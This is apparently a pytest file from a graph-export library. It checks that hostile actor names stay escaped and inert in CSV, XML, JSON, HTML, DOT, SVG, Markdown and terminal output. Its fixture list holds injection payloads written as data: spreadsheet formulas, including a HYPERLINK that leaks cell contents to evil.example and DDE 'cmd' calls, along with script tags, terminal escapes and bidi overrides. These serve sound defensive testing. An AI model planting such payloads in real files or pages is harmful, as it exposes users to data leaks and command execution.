"""The same hostile names through every output format, each output read back: one escaping rule per format.

Names, notes and titles come from imported third-party data. Every format must stay parseable, show
the text (escaped by its rule in :mod:`graph.exports.escaping`, or exactly where the format is
data), and never let the text act: no spreadsheet formula, no markup, no Markdown structure, no
terminal control sequence, no matplotlib mathtext.
"""

from __future__ import annotations

import csv
import io
import json
import re
import warnings
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import networkx as nx
import pytest

from graph import Actor, ActorGraph, Citation, Claim, Interval, PartialDate, Source
from graph.exports import FORMATS, export
from graph.exports.escaping import (
    FORMULA_START,
    csv_text,
    markdown_text,
    picture_text,
    spreadsheet_cell,
    spreadsheet_value,
    visible,
    xml_text,
)
from loaders.cli.output import render_rows

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab=1+1",
    "\r=1+1 after a carriage return",
    "\uff1d1+1 full-width",
    "</script><script>alert(1)</script>",
    "<b>bold</b> & <i onmouseover=alert(1)>x</i> &amp;",
    "**bold** _it_ [link](http://evil.example) ![img](x) | cell | `code` ~~gone~~",
    "line one\n# injected heading\r\n- injected item",
    "escape \x1b[2J\x1b[31mred\x07 bell \x08 backspace \x7f del",
    "RTL \u202eevil\u202c override and \u2066isolate\u2069",
    "quote \" apostrophe ' backslash \\ brace {x}",
    "$\\frac{1}{2}$ mathtext $x^2$",
    "very long " + "x" * 5000,
    "'Asa'ib Ahl al-Haq",
    "-33.5",
]


def hostile_graph() -> ActorGraph:
    """Actors named with every hostile text (aliases Alpha0...), a source and claims that repeat them."""
    g = ActorGraph()
    actors = [Actor(f"h{i}", name, "armed_group", aliases=(f"Alpha{i}",), description=name)
              for i, name in enumerate(HOSTILE)]
    target = Actor("target", "Target Group", "armed_group", aliases=("Target",))
    source = Source("s1", HOSTILE[8], HOSTILE[0], "https://example.org/a?b=<c>", PartialDate.parse("2020"))
    claims = [Claim(f"c{i}", f"h{i}", "supports", "target", Interval.parse("2019/.."),
                    citations=(Citation("s1", note=HOSTILE[i], quote=HOSTILE[-i - 1]),),
                    qualifiers={"said": HOSTILE[i]}, note=HOSTILE[i])
              for i in range(len(HOSTILE))]
    g.add(actors=[*actors, target], sources=[source], claims=claims)
    return g


@pytest.fixture(scope="module")
def graph():
    return hostile_graph()


def _lines(text: str) -> str:
    """Line breaks as XML parsers hand them back (a carriage return is read as a line feed)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _csv_rows(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_every_format_is_covered_here():
    covered = {"gexf", "graphml", "json", "cytoscape", "kumu", "csv", "neo4j-csv", "dot", "svg", "png", "html"}
    assert covered == set(FORMATS)


def test_gexf_stays_parseable_and_keeps_every_name(graph, tmp_path):
    path = tmp_path / "g.gexf"
    export(graph, "gexf", path)
    root = ET.parse(path).getroot()
    labels = {n.get("id"): n.get("label") for n in root.iter("{http://gexf.net/1.3}node")}
    for i, name in enumerate(HOSTILE):
        assert _lines(labels[f"h{i}"]) == _lines(xml_text(name))
    assert "\ufffd" in labels["h11"] and "\x1b" not in labels["h11"]  # replaced, and the place stays visible
    nx.read_gexf(path)  # networkx reads it too


def test_graphml_stays_parseable_and_keeps_every_name(graph, tmp_path):
    path = tmp_path / "g.graphml"
    export(graph, "graphml", path)
    g = nx.read_graphml(path, force_multigraph=True)
    for i, name in enumerate(HOSTILE):
        assert _lines(g.nodes[f"h{i}"]["label"]) == _lines(xml_text(name))
    notes = {d["note"] for _, _, d in g.edges(data=True)}
    assert xml_text(HOSTILE[7]) in notes


def test_svg_is_well_formed_and_draws_names_as_text(graph, tmp_path):
    path = tmp_path / "g.svg"
    export(graph, "svg", path)
    root = ET.parse(path).getroot()
    drawn = " ".join("".join(t.itertext()) for t in root.iter("{http://www.w3.org/2000/svg}text"))
    assert "</script>" in drawn and "<script>" not in path.read_text(encoding="utf-8").replace("&lt;script&gt;", "")
    assert "$\\frac{1}{2}$ mathtext $x^2$" in drawn  # drawn as written: matplotlib's mathtext did not run
    assert max(len(line) for line in drawn.split("  ")) < 5000  # the very long name is cut for the picture


def test_png_is_written(graph, tmp_path):
    path = tmp_path / "g.png"
    export(graph, "png", path)
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


@pytest.mark.parametrize("fmt", ["json", "cytoscape", "kumu"])
def test_json_formats_keep_every_name_exactly(graph, tmp_path, fmt):
    path = tmp_path / f"g.{fmt}.json"
    export(graph, fmt, path)
    text = path.read_text(encoding="utf-8")
    found = set(re.findall(r'"(?:label|name)":\s*("(?:[^"\\]|\\.)*")', text))
    names = {json.loads(f) for f in found}
    assert set(HOSTILE) <= names


def test_csv_export_neutralises_formulas_and_reads_back_exactly(graph, tmp_path):
    export(graph, "csv", tmp_path / "out")
    nodes = _csv_rows(tmp_path / "out" / "nodes.csv")
    header = nodes[0]
    by_id = {row[0]: row for row in nodes[1:]}
    for i, name in enumerate(HOSTILE):
        cell = by_id[f"h{i}"][header.index("label")]
        assert spreadsheet_value(cell) == csv_text(name)
        assert cell in (csv_text(name), "'" + csv_text(name))
    for row in [*nodes, *_csv_rows(tmp_path / "out" / "edges.csv")]:
        for cell in row:
            if cell and cell[0] in FORMULA_START:
                assert re.fullmatch(r"[+-]?\d+(\.\d*)?", cell), f"formula reaches a spreadsheet: {cell!r}"


def test_neo4j_csv_keeps_data_exactly(graph, tmp_path):
    export(graph, "neo4j-csv", tmp_path / "neo")
    rows = _csv_rows(tmp_path / "neo" / "actors.csv")
    names = {row[0]: row[1] for row in rows[1:]}
    assert [names[f"h{i}"] for i in range(len(HOSTILE))] == [csv_text(n) for n in HOSTILE]


def test_dot_reads_back_with_pydot(graph, tmp_path):
    import pydot  # in the test extra

    path = tmp_path / "g.dot"
    export(graph, "dot", path)
    with warnings.catch_warnings():  # pydot still calls pyparsing's deprecated camelCase names
        warnings.simplefilter("ignore", DeprecationWarning)
        (parsed,) = pydot.graph_from_dot_file(str(path))
    labels = {n.get_name().strip('"'): n.get("label") for n in parsed.get_nodes()}
    assert len([k for k in labels if k.startswith("h")]) == len(HOSTILE)
    assert labels["h13"] == '"quote \\" apostrophe \' backslash \\\\ brace {x}"'
    assert "\x1b" not in path.read_text(encoding="utf-8")


def test_html_viewer_holds_names_as_data_only(graph, tmp_path):
    path, plain = tmp_path / "g.html", tmp_path / "plain.html"
    export(graph, "html", path, title="</title><script>alert(2)</script>")
    benign = ActorGraph()
    benign.add(actors=[Actor("a", "A", "armed_group")])
    export(benign, "html", plain)
    page = path.read_text(encoding="utf-8")

    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.scripts, self.titles = 0, []
            self._in_title = False

        def handle_starttag(self, tag, attrs):
            self.scripts += tag == "script"
            self._in_title = tag == "title"

        def handle_data(self, data):
            if self._in_title:
                self.titles.append(data)
                self._in_title = False

    tags, plain_tags = Tags(), Tags()
    tags.feed(page)
    plain_tags.feed(plain.read_text(encoding="utf-8"))
    assert tags.scripts == plain_tags.scripts  # every script element is the page's own
    assert "<script>alert" not in page and "</script><script>" not in page
    assert tags.titles == ["</title><script>alert(2)</script>"]  # escaped text, shown as it was written
    data = page[page.index('"nodes":'):]
    assert "\\u003c/script" in data


def test_table_output_shows_controls_as_escapes(graph):
    rows = [[a.id, a.name] for a in graph.actors]
    table = render_rows(rows, ["id", "name"], "table")
    assert "\x1b" not in table and "\u202e" not in table and "\x07" not in table
    assert "\\x1b[2J" in table and "\\u202e" in table
    assert len(table.splitlines()) == len(rows) + 1  # a line break in a name does not start a row


def test_cli_csv_output_neutralises_formulas(graph):
    rows = [[a.id, a.name] for a in graph.actors]
    out = list(csv.reader(io.StringIO(render_rows(rows, ["id", "name"], "csv"))))
    for (ident, name), (cell_id, cell) in zip(rows, out[1:], strict=True):
        assert cell_id == ident and spreadsheet_value(cell) == csv_text(name)
        assert not (cell[:1] in FORMULA_START and not re.fullmatch(r"[+-]?\d+(\.\d*)?", cell))


def test_markdown_explainer_escapes_html_and_markdown(graph):
    from queries.explain import explain, render

    e = explain(graph, "Who supports Target?", as_of="2024-01-01")
    md = render(e, "markdown")
    assert re.findall(r"(?<!\\)<(?!https://)", md) == []  # every "<" is escaped, but for the autolinks
    heading_lines = [line for line in md.splitlines() if line.startswith("#")]
    assert all(line.startswith(("# ", "## ")) and "injected" not in line for line in heading_lines)
    assert "\x1b" not in md and "\u202e" not in md
    assert markdown_text(HOSTILE[9]) in md  # the Markdown-looking name is there, inert
    html_page = render(e, "html")
    assert "<script>" not in html_page and "&lt;script&gt;" in html_page


def test_escaping_rules_are_what_the_module_documents():
    for text in HOSTILE:
        cell = spreadsheet_cell(text)
        assert spreadsheet_value(cell) == csv_text(text)
        assert not _NOT_XML.search(xml_text(text))
        assert "\n" not in markdown_text(text) and "<" not in markdown_text(text).replace("\\<", "")
        assert not re.search("[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", visible(text))
        assert len(picture_text(text)) <= 80


_NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
